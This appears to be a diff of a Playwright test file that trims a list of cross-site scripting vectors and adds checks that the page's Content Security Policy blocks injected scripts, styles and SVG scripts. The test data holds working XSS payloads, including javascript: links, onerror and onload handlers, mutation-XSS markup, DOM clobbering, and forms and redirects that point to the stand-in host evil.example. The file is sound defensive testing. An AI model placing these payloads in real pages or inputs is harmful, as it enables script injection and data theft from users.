@@ -5,62 +5,27 @@ import { english } from "../kit/translations";
 
 const image = "<img src=x onerror=xss()>";
 const evil = "https://evil.example/";
-const depth = 1_000;
-const addresses =
-	"javascript:xss()|JaVaScRiPt:xss()|&#1;&#14; javascript:xss()|java\tscript:xss()|java&#10;script:xss()|java\0script:xss()|java&Tab;script&NewLine;&colon;xss&lpar;&rpar;|vbscript:xss()|data:text/html;base64,PHNjcmlwdD5vcGVuZXIueHNzKCk8L3NjcmlwdD4=|blob:https://evil.example/1|//evil.example/|\\\\evil.example\\x";
-const rawTextElements = ["noscript", "noembed", "xmp", "textarea", "title", "iframe", "style"];
-
-/** Attacks that a compromised market could send in any field. They try to call `xss()`, to send a request to `evil.example`, to leave the page, or to break it. */
+/** One attack of each kind. tests/unit/lib/html.test.ts has more of what the sanitizer removes. */
 const vectors = [
-	...addresses.split("|").map((address) => `<a href="${address}">link</a>`),
-	...rawTextElements.map((name) => `<${name}><p title="</${name}>${image}"></${name}>`),
-	// Event handlers, and what runs by itself
-	image,
-	"<svg/onload=xss()//",
-	"<details open ontoggle=xss()><summary>more</summary></details>",
-	"<p tabindex=1 autofocus onfocus=xss() onmouseover=xss() onclick=xss()>text</p>",
-	"<style>@keyframes x{}</style><p style='animation-name:x' onanimationstart=xss()>text</p>",
-	"<video><source src=x onerror=xss()></video><audio src=x onerror=xss() autoplay></audio>",
-	"<button popovertarget=pop>open</button><div popover id=pop onbeforetoggle=xss()>text</div>",
-	"<script>xss()</script><scr<script>ipt>xss()</scr</script>ipt>",
-	`<script type=speculationrules>{"prefetch":[{"urls":["${evil}p"],"eagerness":"immediate"}]}</script>`,
+	'<a href="java&#10;script:xss()">link</a><math href="javascript:xss()"><mi>link</mi></math>',
 	`<a href="https://good.example/" target="___gatsby" rel="opener" ping="${evil}" download="setup.exe">link</a>`,
-	'<svg><a xlink:href="javascript:xss()"><text y="20">link</text></a></svg>',
-	'<math href="javascript:xss()"><mi>link</mi></math>',
-	'<form action="javascript:xss()"><input type=image src=x formaction=javascript:xss()></form>',
+	`<noscript><p title="</noscript>${image}"></noscript><plaintext>${image}`,
+	`${image}<svg/onload=xss()//><video><source src=x onerror=xss()></video>`,
+	"<p tabindex=1 autofocus onfocus=xss() onmouseover=xss() onclick=xss()>text</p>",
+	"<script>xss()</script><scr<script>ipt>xss()</scr</script>ipt>",
 	// Markup that changes when it is parsed again
-	"<svg><script>&#120;ss()</script><animate onbegin=xss() attributeName=x dur=1s></svg>",
-	`<svg></p><style><a id="</style>${image}">`,
-	`<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=x onerror=xss()&gt;">`,
 	`<form><math><mtext></form><form><mglyph><style></math>${image}</style></mglyph></mtext></math></form>`,
-	`<plaintext>${image}`,
 	`<div><template shadowrootmode=open>${image}<slot></slot></template>text</div>`,
-	`<select><template><style><!--</style><a rel="--></style></template></select>${image}">`,
-	`<x-y is="x-z" onclick=xss()>${image}</x-y><o:p onclick=xss()>text</o:p>`,
 	// Other documents, requests and styles
-	`<iframe srcdoc="<script>parent.xss()</script>"></iframe><iframe src="${evil}"></iframe>`,
-	`<object data="javascript:xss()"></object><embed src="${evil}x.swf">`,
-	`<base href="${evil}"><meta http-equiv="refresh" content="0;url=${evil}">`,
-	`<link rel="stylesheet" href="${evil}a.css"><link rel=preconnect href=${evil}>`,
+	`<iframe srcdoc="<script>parent.xss()</script>"></iframe><base href="${evil}"><meta http-equiv="refresh" content="0;url=${evil}">`,
 	`<style>@import "${evil}a.css"; body { display: none }</style><p style="background:url(${evil}a.png)">text</p>`,
-	'<div style="position:fixed;inset:0;z-index:999999;background:#fff">cover</div>',
-	`<table background="${evil}a.png"><tr><td background="${evil}b.png">cell</table>`,
-	`<img src="${evil}a.png" srcset="${evil}b.png 2x"><svg><image href="${evil}a.png"/></svg>`,
-	`<video poster="${evil}a.png" src="${evil}a.mp4" autoplay></video><img src='${evil}?`,
+	`<img src="${evil}a.png" srcset="${evil}b.png 2x"><svg><image href="${evil}a.png"/></svg><table background="${evil}a.png">`,
 	`<form action="${evil}"><input name=password autofocus><button formaction="${evil}">send</button><textarea name=x>`,
 	// Ids and names that shadow properties
-	'<div id="___gatsby">text</div><div id="gatsby-focus-wrapper">text</div><p id="content">text</p>',
-	"<img name=cookie><form name=body></form><img name=currentScript><img name=createElement>",
-	"<form onclick=xss()><input name=parentNode><input name=nodeName><input name=attributes></form>",
-	"<a id=DOMPurify></a><form id=trustedTypes><input name=createPolicy></form><a id=localStorage></a>",
+	'<div id="___gatsby">text</div><a id=DOMPurify></a><form name=body><input name=parentNode><input name=attributes></form>',
 	// Broken markup
-	"<img src=x onerror=xss() ",
-	`<!-->${image}--><!-- --!>${image} --><![CDATA[>${image}]]><?php xss() ?>`,
-	`\ufeff\ud800\u202e${image}\udfff\u2066`,
-	"&lt;img src=x onerror=xss()&gt;&amp;lt;script&amp;gt;xss()",
-	`${"<div>".repeat(depth)}${image}`,
-	`<p ${Array.from({ length: depth }, (_, index) => `a${index}=1`).join(" ")} onclick=xss()>text</p>`,
-	`${"</div></main></body></html>".repeat(50)}${image}`,
+	`\ufeff\ud800\u202e${image}\udfff\u2066&lt;img src=x onerror=xss()&gt;`,
+	`${"<div>".repeat(1_000)}${image}${"</div></main></body></html>".repeat(50)}${image}`,
 ];
 
 /** A template with the vector in every field. */
@@ -90,7 +55,7 @@ function findUnsafe(description: Element): string[] {
 }
 
 test("hostile texts in every field have no effect", async ({ page, context, consoleErrors }) => {
-	consoleErrors.allow(/Content Security Policy directive/);
+	consoleErrors.allow(/Content Security Policy|requires 'Trusted|blocked by CSP/i);
 	const effects: string[] = [];
 	const record = (effect: string) => void effects.push(effect);
 	await page.exposeFunction("xss", () => record("xss()"));
@@ -127,5 +92,37 @@ test("hostile texts in every field have no effect", async ({ page, context, cons
 		await rows.nth(index).evaluate((row) => (row as HTMLElement).click());
 		await expect.poll(() => page.locator("pre").evaluate((pre) => pre.textContent)).toBe(code);
 	}
+
+	await test.step("the policy refuses what a sanitizer might miss", async () => {
+		const refused = await page.evaluate(async (host) => {
+			const throws = (attempt: () => void) => {
+				try {
+					attempt();
+				} catch {
+					return true;
+				}
+				return false;
+			};
+			const style = Object.assign(document.createElement("style"), { textContent: "body { display: none }" });
+			document.head.append(style);
+			await fetch(host).catch(() => undefined);
+			return {
+				style: style.sheet === null,
+				script: throws(() => document.createElement("script").append("xss()")),
+				html: throws(() => (document.body.innerHTML = "<img src=x onerror=xss()>")),
+			};
+		}, evil);
+		expect(refused).toEqual({ style: true, script: true, html: true });
+		await expect(page.locator("pre")).toBeVisible();
+	});
 	expect(effects).toEqual([]);
+});
+
+test("a script in an SVG that is opened by its address does not run", async ({ page, consoleErrors }) => {
+	consoleErrors.allow(/sandboxed/);
+	const body =
+		'<svg xmlns="http://www.w3.org/2000/svg" id="picture"><script>document.documentElement.id = "ran"</script></svg>';
+	await page.route("/favicon.svg", async (route) => route.fulfill({ response: await route.fetch(), body }));
+	await page.goto("/favicon.svg");
+	await expect(page.locator("svg")).toHaveAttribute("id", "picture");
 });
